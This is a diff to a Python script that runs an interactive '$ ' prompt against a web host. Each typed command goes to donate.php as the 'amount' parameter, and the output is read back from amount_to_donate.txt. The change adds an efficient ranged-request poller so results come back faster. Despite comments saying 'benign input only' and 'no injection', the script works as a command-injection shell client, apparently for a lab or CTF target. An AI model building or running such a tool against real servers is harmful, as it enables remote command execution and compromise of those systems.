@@ -12,12 +12,108 @@ import requests
 import urllib.parse
 import difflib
 
+TIMEOUT = 5
+OVERLAP = 64  # already-known bytes re-requested to check the file was only appended to
+
+class RemoteFile:
+    """
+    Local copy of a remote file that is normally only appended to.
+
+    Each poll asks for the bytes past the known end (Range: bytes=N-),
+    conditional on the last ETag/Last-Modified, over one keep-alive
+    session. A few known bytes are re-requested with every range so a
+    rewritten file is detected. The whole file is fetched and diffed only
+    when the server ignores ranges, the file shrinks or the overlap
+    does not match.
+    """
+
+    def __init__(self, session, url):
+        self.session = session
+        self.url = url
+        self.data = bytearray()   # grown in place, so appends stay linear
+        self.etag = None
+        self.last_modified = None
+        self.full_fetches = 0
+
+    def poll(self):
+        """Fetch changes and return the new (or changed) lines."""
+        headers = {}
+        if self.etag:
+            headers["If-None-Match"] = self.etag
+        elif self.last_modified:
+            headers["If-Modified-Since"] = self.last_modified
+
+        start = max(0, len(self.data) - OVERLAP)
+        if self.data:
+            headers["Range"] = f"bytes={start}-"
+
+        r = self.session.get(self.url, headers=headers, timeout=TIMEOUT)
+        if r.status_code == 304:
+            return []
+
+        if r.status_code == 416:
+            # The overlap is always inside the old file, so it shrank
+            return self.full_fetch()
+
+        r.raise_for_status()
+        if r.status_code == 206:
+            first = r.headers.get("Content-Range", "").removeprefix("bytes ").partition("-")[0]
+            body = r.content
+            known = self.data[start:]
+            if first != str(start) or not body.startswith(known):
+                return self.full_fetch()
+            self.remember(r)
+            return self.append(body[len(known):])
+
+        # 200: the server ignored the range and sent everything
+        return self.replace(r)
+
+    def full_fetch(self):
+        self.etag = self.last_modified = None
+        r = self.session.get(self.url, timeout=TIMEOUT)
+        r.raise_for_status()
+        return self.replace(r)
+
+    def replace(self, r):
+        self.full_fetches += 1
+        self.remember(r)
+        old, new = self.data, r.content
+        if new.startswith(old):
+            return self.append(new[len(old):])
+
+        self.data = bytearray(new)
+        diff = difflib.unified_diff(
+            old.decode(errors="replace").splitlines(),
+            new.decode(errors="replace").splitlines(),
+            lineterm=""
+        )
+        return [line[1:] for line in diff if line.startswith("+") and not line.startswith("+++")]
+
+    def append(self, chunk):
+        if not chunk:
+            return []
+        # A partial last line that grows is reported again in full
+        line_start = self.data.rfind(b"\n") + 1
+        self.data.extend(chunk)
+        return self.data[line_start:].decode(errors="replace").splitlines()
+
+    def remember(self, r):
+        self.etag = r.headers.get("ETag")
+        self.last_modified = r.headers.get("Last-Modified")
+
 def main():
     host = input("Host: ").strip()
     port = input("Port: ").strip()
 
     base_url = f"http://{host}:{port}"
 
+    session = requests.Session()
+    output = RemoteFile(session, f"{base_url}/amount_to_donate.txt")
+    try:
+        output.full_fetch()
+    except requests.exceptions.RequestException as e:
+        print(f"Error: {e}")
+
     print("Type commands (benign input only). Ctrl+C to exit.")
 
     while True:
@@ -25,36 +121,20 @@ def main():
             raw_command = input("$ ").strip()
             encoded_command = urllib.parse.quote(raw_command)
 
-            # 1) Fetch previous response snapshot
-            prev_resp = requests.get(
-                f"{base_url}/amount_to_donate.txt",
-                timeout=5
-            ).text.splitlines()
+            # 1) Catch up with changes made since the last command
+            output.poll()
 
             # 2) Send a benign request (no injection)
             #    This simulates the interaction flow only
-            requests.get(
+            session.get(
                 f"{base_url}/donate.php",
                 params={"amount": encoded_command},
-                timeout=5
-            )
-
-            # 3) Fetch new response snapshot
-            new_resp = requests.get(
-                f"{base_url}/amount_to_donate.txt",
-                timeout=5
-            ).text.splitlines()
-
-            # 4) Compute delta (only newly added lines)
-            diff = difflib.unified_diff(
-                prev_resp,
-                new_resp,
-                lineterm=""
+                timeout=TIMEOUT
             )
 
-            for line in diff:
-                if line.startswith("+") and not line.startswith("+++"):
-                    print(line[1:])
+            # 3) Fetch only what was appended, and print it
+            for line in output.poll():
+                print(line)
 
         except KeyboardInterrupt:
             print("\nExiting.")